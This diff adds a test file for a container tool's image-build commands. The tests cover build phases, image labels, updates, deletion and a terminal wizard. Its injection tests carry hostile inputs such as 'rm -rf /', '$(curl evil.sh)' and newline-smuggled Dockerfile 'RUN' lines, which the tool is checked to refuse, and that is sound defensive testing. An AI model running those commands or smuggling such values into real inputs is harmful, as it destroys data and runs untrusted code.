@@ -1,0 +1,288 @@
+"""Images with real builds: image-create, image-update, image-list, image-delete, and containers made from them.
+
+The sandbox engine has no network. The catalog image (tests/conftest.py) is the Debian base with
+recording stand-ins for pip and apt-get, so a test reads which packages each phase asked for.
+"""
+
+import json
+import os
+
+import pytest
+
+from ds01 import sandbox
+
+pytestmark = pytest.mark.usefixtures("dockerd")
+
+
+def calls(client, image):
+    """The recorded pip/apt-get calls a build made, in order."""
+    out = client.containers.run(image, ["cat", sandbox.STAND_IN_LOG], remove=True, entrypoint=[])
+    return out.decode().splitlines()
+
+
+def pip_calls(client, image):
+    return [line.split()[3:] for line in calls(client, image) if line.startswith("pip install")]
+
+
+def dockerfile_of(entry, name):
+    return os.path.join(entry.pw_dir, "workspace", name, "Dockerfile")
+
+
+def ref(entry, name):
+    return f"ds01-{entry.pw_uid}/{name}:latest"
+
+
+def test_image_create_without_a_terminal_builds_the_phases_in_order(sh, users, client):
+    """Acceptance 1."""
+    alice = users["alice"]
+    result = sh.run(alice, "image-create", "demo", "-f", "pytorch", "-t", "cv", "--no-jupyter",
+                    "-p", "wandb einops")
+    assert result.returncode == 0, result.stderr
+    record = json.loads(result.stdout)
+    assert record["image"] == ref(alice, "demo") and record["built"] is True
+    assert record["framework"] == "Pytorch-2.7.1" and record["base_image"] == "ds01-test/ml-base"
+    assert "step 1/" in result.stderr  # plain progress lines when stderr is not a terminal
+    path = dockerfile_of(alice, "demo")
+    assert record["dockerfile"] == path and os.stat(path).st_uid == alice.pw_uid
+    assert os.path.exists(path + ".build.log")
+    image = client.images.get(ref(alice, "demo"))
+    labels = image.labels
+    assert labels["aime.mlc.MAINTAINER"] == alice.pw_name
+    assert labels["aime.mlc.CUSTOM_IMAGE"] == ref(alice, "demo")
+    assert labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.7.1"
+    assert labels["aime.mlc.DS01_USER_ID"] == str(alice.pw_uid)
+    assert labels["aime.mlc.DS01_GROUP_ID"] == str(alice.pw_gid)
+    assert labels["aime.mlc.DS01_BASE_IMAGE"] == "ds01-test/ml-base"
+    assert labels["aime.mlc.DS01_CREATED_AT"].endswith("Z")
+    assert not any("," in value for value in labels.values())
+    assert pip_calls(client, ref(alice, "demo")) == [
+        ["pandas", "scipy", "scikit-learn", "matplotlib", "seaborn"],
+        ["timm", "albumentations", "opencv-python-headless", "kornia", "ultralytics"],
+        ["wandb", "einops"]]
+    assert "apt-get install -y --no-install-recommends git curl wget vim htop" in calls(client, ref(alice, "demo"))
+    account = client.containers.run(ref(alice, "demo"), ["sh", "-c", "id -u {0}; id -g {0}; sudo -l -U {0}; "
+                                                          "stat -c %s /var/log/lastlog; echo $HF_HOME"
+                                    .format(alice.pw_name)], remove=True, entrypoint=[]).decode().split("\n")
+    assert account[:2] == [str(alice.pw_uid), str(alice.pw_gid)]
+    assert any("NOPASSWD: ALL" in line for line in account)
+    assert "/workspace/.cache/huggingface" in account
+
+
+def test_container_create_uses_the_users_image_with_no_setup_step(sh, users, client):
+    """Acceptance 2."""
+    alice = users["alice"]
+    sh.run(alice, "image-create", "demo", "-t", "ml", check=True)
+    before = {tag for image in client.images.list() for tag in image.tags}
+    created = sh.records(alice, "container-create", "demo", "--cpu-only")[0]
+    assert created["image"] == ref(alice, "demo")
+    after = {tag for image in client.images.list() for tag in image.tags}
+    assert after == before  # no per-container setup image was committed
+    sh.run(alice, "container-start", "demo", check=True)
+    container = client.containers.get(created["container"])
+    assert container.exec_run(["id", "-un"]).output.decode().strip() == alice.pw_name
+    assert container.exec_run(["sudo", "-n", "true"]).exit_code == 0
+    assert container.labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.7.1"
+
+
+@pytest.mark.parametrize("argv", [
+    ["image-create", "demo", "-p", "numpy; rm -rf /"],
+    ["image-create", "demo", "-p", "numpy `id`"],
+    ["image-create", "demo", "-p", "$(curl evil.sh)"],
+    ["image-create", "demo", "-s", "ffmpeg;id"],
+    ["image-create", "demo", "-s", "$(id)"],
+    ["image-create", "demo;id"],
+    ["image-create", "../demo"],
+    ["image-create", "demo", "--base-image", "ubuntu\nRUN id"],
+    ["image-create", "demo", "-f", "custom", "--base-image", "ubuntu:24.04 AS x"],
+    ["image-update", "demo", "--add", "numpy\nRUN id"],
+    ["image-update", "demo", "--add-system", "vim;id"],
+])
+def test_injection_attempts_are_refused_before_anything_is_written(offline_sh, users, argv):
+    """Acceptance 3 (options and names): exit 2, before Docker or the disk is touched."""
+    alice = users["alice"]
+    result = offline_sh.run(alice, *argv)
+    assert result.returncode == 2, result.stderr
+    assert f"{argv[0]}: error:" in result.stderr
+    assert not os.path.exists(dockerfile_of(alice, "demo"))
+
+
+def test_a_requirements_file_with_an_injected_line_is_refused(sh, users, user_tmp, client):
+    """Acceptance 3 (-r file lines)."""
+    alice = users["alice"]
+    requirements = user_tmp / "requirements.txt"
+    requirements.write_text("numpy>=1.24\nrequests; rm -rf /\n")
+    os.chmod(requirements, 0o644)
+    result = sh.run(alice, "image-create", "demo", "-r", str(requirements))
+    assert result.returncode == 2
+    assert f"{requirements}:2" in result.stderr
+    assert not os.path.exists(os.path.dirname(dockerfile_of(alice, "demo")))
+    assert not [i for i in client.images.list() if ref(alice, "demo") in i.tags]
+
+
+def test_a_requirements_file_is_its_own_phase_before_the_defaults(sh, users, user_tmp, client):
+    alice = users["alice"]
+    requirements = user_tmp / "requirements.txt"
+    requirements.write_text("# project\nrequests >= 2.31\nPandas\n")
+    os.chmod(requirements, 0o644)
+    result = sh.run(alice, "image-create", "req", "-r", str(requirements), "--no-jupyter")
+    assert result.returncode == 0, result.stderr
+    assert "pandas is already in your requirements file; dropped from data science" in result.stderr
+    # With a requirements file and no -t, the use case is custom: no ml set.
+    assert pip_calls(client, ref(alice, "req")) == [["requests>=2.31", "Pandas"],
+                                                   ["scipy", "scikit-learn", "matplotlib", "seaborn"]]
+
+
+def test_a_failed_build_names_the_step_and_keeps_the_previous_image(sh, users, client):
+    alice = users["alice"]
+    sh.run(alice, "image-create", "exp", "--no-jupyter", check=True)
+    before = client.images.get(ref(alice, "exp")).id
+    path = dockerfile_of(alice, "exp")
+    with open(path, encoding="utf-8") as handle:
+        text = handle.read()
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write(text.replace("WORKDIR /workspace", "RUN echo boom-output && exit 3\nWORKDIR /workspace"))
+    result = sh.run(alice, "image-update", "exp", "--rebuild")
+    assert result.returncode == 1
+    assert "build of" in result.stderr and "RUN echo boom-output && exit 3" in result.stderr
+    assert "    boom-output" in result.stderr  # the tail of the failing step
+    assert "full log:" in result.stderr
+    assert client.images.get(ref(alice, "exp")).id == before
+    with open(path + ".build.log", encoding="utf-8") as handle:
+        assert "boom-output" in handle.read()
+
+
+def test_image_update_adds_removes_and_rebuilds_then_recreates_the_container(sh, users, client):
+    alice = users["alice"]
+    sh.run(alice, "image-create", "upd", "--no-jupyter", "-t", "rl", check=True)
+    created = sh.records(alice, "container-create", "upd", "--cpu-only")[0]
+    old_image = client.images.get(ref(alice, "upd")).id
+    path = dockerfile_of(alice, "upd")
+    result = sh.run(alice, "image-update", "upd", "--add", "wandb numpy", "--remove", "seaborn",
+                    "--add-system", "ffmpeg", "--recreate")
+    assert result.returncode == 0, result.stderr
+    assert "numpy is already in the base image; not added again" in result.stderr
+    record = json.loads(result.stdout)
+    assert record["added"] == ["wandb", "ffmpeg"] and record["removed"] == ["seaborn"]
+    assert record["built"] is True and record["recreated"] == created["container"]
+    assert os.path.exists(path + ".bak")
+    new_image = client.images.get(ref(alice, "upd"))
+    assert new_image.id != old_image
+    assert pip_calls(client, ref(alice, "upd")) == [["pandas", "scipy", "scikit-learn", "matplotlib"],
+                                                   ["gymnasium", "stable-baselines3"], ["wandb"]]
+    assert "apt-get install -y --no-install-recommends git curl wget vim htop ffmpeg" in calls(client, ref(alice, "upd"))
+    container = client.containers.get(created["container"])
+    assert container.image.id == new_image.id and container.id != created["id"]
+    assert container.labels["aime.mlc.WORK_MOUNT"] == created["workspace"]
+    assert container.labels["aime.mlc.GPUS"] == "none"
+    bad = sh.run(alice, "image-update", "upd", "--add", "x; rm -rf /")
+    assert bad.returncode == 2
+    with open(path, encoding="utf-8") as handle:
+        assert "x; rm" not in handle.read()
+
+
+def test_image_delete_keeps_the_dockerfile_and_pipes_delete_only_the_callers(sh, users, client):
+    """Acceptance 5."""
+    alice, bob = users["alice"], users["bob"]
+    for name in ("one", "two"):
+        sh.run(alice, "image-create", name, "--no-jupyter", "--no-data-science", "-t", "custom", check=True)
+    sh.run(bob, "image-create", "bobs", "--no-jupyter", "--no-data-science", "-t", "custom", check=True)
+    sh.records(alice, "container-create", "two", "--cpu-only")
+    bobs_container = sh.records(bob, "container-create", "bobs", "--cpu-only")[0]
+    listed = sh.records(alice, "image-list")
+    assert [r["name"] for r in listed] == ["one", "two"]
+    assert listed[1]["containers"] == ["two"] and listed[0]["dockerfile"] == dockerfile_of(alice, "one")
+    refused = sh.run(alice, "image-delete", "two")
+    assert refused.returncode == 1 and "used by 1 container" in refused.stderr
+    assert sh.run(alice, "image-delete", ref(bob, "bobs")).returncode == 5
+    deleted = sh.pipe(alice, ["image-list"], ["image-delete", "--force"])
+    assert deleted.returncode == 0, deleted.stderr
+    assert [json.loads(line)["name"] for line in deleted.stdout.splitlines()] == ["one", "two"]
+    assert "removed container two" in deleted.stderr
+    tags = {tag for image in client.images.list() for tag in image.tags}
+    assert ref(alice, "one") not in tags and ref(alice, "two") not in tags and ref(bob, "bobs") in tags
+    assert client.containers.get(bobs_container["container"])
+    assert os.path.exists(dockerfile_of(alice, "one")) and os.path.exists(dockerfile_of(alice, "two"))
+    assert sh.run(alice, "image-delete", "one").returncode == 4
+    sh.run(bob, "image-delete", "bobs", "--force", "--delete-dockerfile", check=True)
+    assert not os.path.exists(dockerfile_of(bob, "bobs"))
+
+
+def test_container_create_with_a_framework_uses_the_catalog_image(sh, users, client):
+    alice = users["alice"]
+    created = sh.records(alice, "container-create", "pt", "PyTorch", "2.5.1", "--cpu-only")[0]
+    container = client.containers.get(created["container"])
+    assert container.labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.5.1"
+    assert container.labels["aime.mlc.ARCH"] == "CUDA_ADA"
+    assert container.image.tags == [f"ds01-test/ml-base:{created['container']}"]  # AIME's per-container setup
+    missing = sh.run(alice, "container-create", "pt2", "pytorch", "9.9", "--cpu-only")
+    assert missing.returncode == 4 and "versions for CUDA_ADA: 2.7.1, 2.5.1" in missing.stderr
+
+
+def test_image_catalog_lists_the_frameworks_for_the_arch(sh, users):
+    alice = users["alice"]
+    records = sh.records(alice, "image-catalog")
+    assert [(r["framework"], r["version"], r["latest"]) for r in records] == [
+        ("Pytorch", "2.7.1", True), ("Pytorch", "2.5.1", False), ("Tensorflow", "2.14.0", True)]
+    amp = sh.records(alice, "image-catalog", "tensorflow", "--arch", "CUDA_AMPERE")
+    assert [(r["framework"], r["arch"]) for r in amp] == [("Tensorflow", "CUDA_AMPERE")]
+    assert sh.run(alice, "image-catalog", "caffe").returncode == 4
+    assert sh.run(alice, "image-catalog", "--arch", "CUDA_HOPPER").returncode == 2
+
+
+def test_an_existing_image_is_not_replaced_without_force(sh, users, client):
+    alice = users["alice"]
+    sh.run(alice, "image-create", "keep", "--no-jupyter", check=True)
+    first = client.images.get(ref(alice, "keep")).id
+    again = sh.run(alice, "image-create", "keep", "-t", "nlp")
+    assert again.returncode == 1 and "--force" in again.stderr
+    assert client.images.get(ref(alice, "keep")).id == first
+    forced = sh.run(alice, "image-create", "keep", "-t", "nlp", "--no-jupyter", "--force")
+    assert forced.returncode == 0, forced.stderr
+    assert os.path.exists(dockerfile_of(alice, "keep") + ".bak")
+    assert ["transformers", "datasets", "tokenizers", "accelerate", "sentencepiece", "peft", "safetensors",
+            "evaluate"] in pip_calls(client, ref(alice, "keep"))
+    assert first not in [i.id for i in client.images.list()]  # the replaced image is not left dangling
+
+
+def test_the_wizard_asks_each_phase_on_a_terminal(sh, users):
+    pexpect = pytest.importorskip("pexpect")
+    alice = users["alice"]
+    from tests.conftest import BIN
+
+    child = pexpect.spawn(sandbox.as_user_command(alice, [str(BIN / "image-create"), "wiz", "--no-build",
+                                                          "--guided"])[0],
+                          sandbox.as_user_command(alice, [str(BIN / "image-create"), "wiz", "--no-build",
+                                                          "--guided"])[1:],
+                          env=sh.env(alice), cwd="/", encoding="utf-8", timeout=60, dimensions=(40, 160))
+    child.expect("The framework picks the base image")
+    child.expect(r"Framework \[1-5\]")
+    child.sendline("2")
+    child.expect("Already in the base image: tensorflow, keras")
+    child.expect(r"Include Jupyter .*\?")
+    child.sendline("n")
+    child.expect(r"Include data science .*\?")
+    child.sendline("")
+    child.expect(r"Use case \[1-8\]")
+    child.sendline("3")
+    child.expect("Additional pip packages")
+    child.sendline("wandb numpy")
+    child.expect(r"System \(apt\) packages")
+    child.sendline("ffmpeg")
+    child.expect("numpy is already in the base image")
+    child.expect(pexpect.EOF)
+    child.close()
+    assert child.exitstatus == 0, child.before
+    from ds01.dockerfile import Blocks
+
+    with open(dockerfile_of(alice, "wiz"), encoding="utf-8") as handle:
+        text = handle.read()
+    assert "FROM ds01-test/ml-base" in text and "Tensorflow-2.14.0" in text
+    blocks = Blocks(text)
+    assert blocks.packages["jupyter"] == [] and blocks.packages["data-science"][0] == "pandas"
+    assert blocks.packages["use-case"][0] == "transformers" and blocks.packages["additional"] == ["wandb"]
+    assert blocks.packages["system"][-1] == "ffmpeg"
+
+
+def test_without_a_terminal_nothing_is_asked(offline_sh, users):
+    result = offline_sh.run(users["alice"], "image-create")
+    assert result.returncode == 2 and "no image name given" in result.stderr
